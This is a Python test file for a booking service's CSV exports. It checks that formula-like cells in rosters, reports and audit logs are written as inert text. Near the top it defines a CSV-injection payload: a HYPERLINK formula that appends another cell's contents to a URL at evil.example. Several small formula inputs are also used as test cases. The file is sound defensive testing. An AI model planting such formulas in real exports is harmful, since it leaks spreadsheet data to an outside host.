"""Every CSV file Yorisou writes shows a formula-looking cell as text: a parent's answer or a
staff title can never run in the spreadsheet of the person who opens it."""

from __future__ import annotations

import csv
import io

import pytest
from sqlmodel import select

from service.bookings.models import Booking
from service.csv_files import csv_text
from service.models import Role, Topic
from tests.bookings.test_event_console import KODOMO, _booked_day
from tests.conftest import csrf_token
from tests.factories import create_organisation, create_staff
from tests.staff.test_staff_notices import login

ATTACK = '=HYPERLINK("https://evil.example/?"&C2,"詳しくはこちら")'


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Cache-Control"] == "no-store"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+81 90", "'+81 90"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("  =1+1", "'  =1+1"),
        ("養育費 = 大事", "養育費 = 大事"),
        (-5, "-5"),  # a number is a number
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(cell, written):
    [_, row] = list(csv.reader(io.StringIO(csv_text(["x"], [[cell]]), newline="")))
    assert row == [written]


def test_answers_titles_and_names_in_every_export_are_inert(client, session):
    city = create_organisation(session)
    create_staff(session, organisation=city, email="kodomo@aoba.example.jp", department=KODOMO)
    create_staff(session, organisation=city, email="admin@aoba.example.jp", role=Role.ADMIN)
    event, slot = _booked_day(session, city, count=1)
    event.title_ja = "=1+1"
    event.questions = [{"ja": "@SUM(1)", "en": "", "easy": "", "required": False}]
    session.add(event)
    session.commit()

    booking = session.exec(select(Booking)).one()
    booking.answers = [ATTACK]
    session.add(booking)
    session.commit()

    login(client, "kodomo@aoba.example.jp")
    roster = _rows(client.get(f"/staff/slots/{slot.id}/bookings.csv"))
    assert roster[0][3] == "'@SUM(1)" and roster[1][3] == "'" + ATTACK
    report = _rows(client.get("/staff/events/report.csv?by=event"))
    assert ["'=1+1"] == [row[0] for row in report if "1+1" in row[0]]

    login(client, "admin@aoba.example.jp")
    page = "/staff/topics"
    client.post(
        page,
        data={
            "csrf_token": csrf_token(client, page),
            "slug": "kanji",
            "name_ja": "-1+1 養育費",
            "name_en": "Child support",
        },
    )
    assert session.exec(select(Topic).where(Topic.slug == "kanji")).one()
    audit = _rows(client.get("/staff/audit.csv"))
    cells = [cell for row in audit for cell in row if "1+1" in cell]
    assert "'-1+1 養育費" in cells  # the value itself, made inert
    assert "テーマ「-1+1 養育費」" in cells  # the target by its name: no formula to start with
    assert not any(cell[:1] in "=+-@\t\r" for cell in cells)
